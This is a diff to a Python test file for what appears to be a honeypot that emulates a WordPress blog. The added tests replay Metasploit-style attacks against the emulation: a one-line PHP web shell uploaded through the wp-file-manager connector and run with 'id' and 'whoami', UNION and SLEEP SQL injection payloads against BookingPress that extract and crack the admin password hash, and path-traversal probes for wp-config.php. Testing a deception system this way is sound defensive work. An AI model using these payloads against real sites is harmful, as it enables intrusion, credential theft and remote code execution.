@@ -14,12 +14,14 @@ import pytest
 
 from mirage.base.events import ArtifactCaptured, LoginAttempted
 from mirage.gateway.http.sites.wordpress.accounts import WEAK
+from mirage.gateway.http.sites.wordpress.tables import portable
 from mirage.world import accounts
 from mirage.world.host import Host
 from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin
 
 BLOG = "http://web.example.com"
 SHELL = b"<?php system($_GET['c']); ?>"
+FINDER = "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"
 
 
 @pytest.fixture
@@ -89,6 +91,86 @@ async def test_metasploit_s_wp_admin_shell_upload_gets_its_shell(blog: Machine) 
     assert kept == {hashlib.sha256(SHELL).hexdigest()}
     listed = await blog.ask("GET", "/wp-admin/plugins.php")
     assert b"abcdefghij/abcdefghij.php" in listed.body
+
+
+def _part(boundary: str, name: str, value: bytes, file: str = "") -> bytes:
+    named = f'; filename="{file}"' if file else ""
+    return f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"{named}\r\n\r\n'.encode() + value + b"\r\n"
+
+
+async def _finder(blog: Machine, *parts: bytes) -> Answer:
+    return await blog.ask("POST", FINDER, b"".join(parts) + b"--y--\r\n", {"Content-Type": "multipart/form-data; boundary=y"})
+
+
+async def test_metasploit_s_wp_file_manager_rce_uploads_its_payload(blog: Machine) -> None:
+    """exploit/multi/http/wp_file_manager_rce: the version in readme.txt, cmd=upload by a stranger, then the payload is asked for."""
+    readme = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/readme.txt")
+    assert (readme.status, b"\nStable tag: 6.7\n" in readme.body) == (200, True)
+    assert (await blog.ask("GET", FINDER)).json == {"error": ["errUnknownCmd"]}
+    sent = await _finder(
+        blog, _part("y", "cmd", b"upload"), _part("y", "target", b"l1_"), _part("y", "upload[]", SHELL, "AbC123.php")
+    )
+    assert [entry["name"] for entry in sent.json["added"]] == ["AbC123.php"]
+    shell = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/lib/files/AbC123.php?c=id")
+    assert shell.body == b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"
+    assert blog.read("/usr/share/wordpress/wp-content/plugins/wp-file-manager/lib/files/AbC123.php") == SHELL
+
+
+async def test_the_same_tool_s_other_way_makes_a_file_and_fills_it(blog: Machine) -> None:
+    await _finder(blog, _part("y", "cmd", b"mkfile"), _part("y", "target", b"l1_"), _part("y", "name", b"AbC123.php"))
+    name = b"l1_" + base64.b64encode(b"AbC123.php")
+    filled = await _finder(blog, _part("y", "cmd", b"put"), _part("y", "target", name), _part("y", "content", SHELL))
+    assert [entry["size"] for entry in filled.json["changed"]] == [str(len(SHELL))]
+    shell = await blog.ask("GET", "/wp-content/plugins/wp-file-manager/lib/files/AbC123.php?c=whoami")
+    assert shell.body == b"www-data\n"
+
+
+@pytest.mark.parametrize("path", [b"../../../../wp-config.php", b"a/../b", b"..", b""])
+async def test_the_connector_leads_out_of_its_folder_to_nobody(blog: Machine, path: bytes) -> None:
+    name = b"l1_" + base64.b64encode(path)
+    answer = await _finder(blog, _part("y", "cmd", b"get"), _part("y", "target", name))
+    assert answer.json == {"error": ["errOpen", f"#{name.decode()}", "errFileNotFound"]}
+
+
+async def test_metasploit_s_bookingpress_module_takes_the_hashes_and_they_open_the_door(blog: Machine) -> None:
+    """auxiliary/gather/wp_bookingpress_category_services_sqli: the page's nonce, a UNION, then name, address and hash of each account."""
+    page = await blog.ask("POST", "/bookingpress/")
+    assert page.body.startswith(
+        b'<title>BookingPress</title><link rel="canonical" href="http://web.example.com/bookingpress/"><h1 class="a">B'
+    )
+    nonce = re.search(r"_wpnonce:'(\w+)'\s*};", page.body.decode())
+    assert nonce is not None
+
+    async def told(expression: str) -> str:
+        form = _form(
+            action="bookingpress_front_get_category_services", _wpnonce=nonce[1], category_id="1",
+            total_service=f"4711) UNION ALL SELECT ({expression}),456,789,12,34,56,78,90,77 from wp_users-- -",
+        )  # fmt: skip
+        return str((await blog.ask("POST", "/wp-admin/admin-ajax.php", form)).json[0]["bookingpress_service_id"])
+
+    assert await told("0x616263") == "abc"
+    assert await told("select count(1) from wp_users") == "1"
+    assert (
+        await told("select group_concat(table_name) from information_schema.tables where table_name like 0x77705f757365727325")
+        == "wp_users"
+    )
+    assert await told("select cast(ifnull(user_login,0x00) as binary) from wp_users limit 0,1") == "admin"
+    kept = await told("select cast(ifnull(user_pass,0x00) as binary) from wp_users limit 0,1")
+    (cracked,) = [word for word in WEAK if portable(word, kept[4:12]) == kept]
+    assert cracked == await _guessed(blog)
+    wrong = _form(action="bookingpress_front_get_category_services", _wpnonce="0123456789", category_id="1", total_service="1")
+    assert (await blog.ask("POST", "/wp-admin/admin-ajax.php", wrong)).json["variant"] == "error"
+
+
+async def test_a_statement_that_sleeps_takes_its_time_and_one_that_is_none_gives_nothing(blog: Machine) -> None:
+    page = await blog.ask("GET", "/bookingpress/")
+    nonce = re.search(r"_wpnonce:'(\w+)'", page.body.decode())[1]  # type: ignore[index]
+    for total, seconds in (("1) AND (SELECT 1 FROM (SELECT(SLEEP(7)))a)-- -", 7), ("1'", 0)):
+        before = blog.host.clock.now()
+        form = _form(action="bookingpress_front_get_category_services", _wpnonce=nonce, category_id="1", total_service=total)
+        answer = await blog.ask("POST", "/wp-admin/admin-ajax.php", form, turns=100_000)
+        assert answer.status == 200 and (seconds or answer.json == [])
+        assert seconds <= (blog.host.clock.now() - before) / 10**9 < seconds + 2
 
 
 async def test_xmlrpc_is_guessed_at_in_bulk_as_its_tools_do(blog: Machine) -> None:
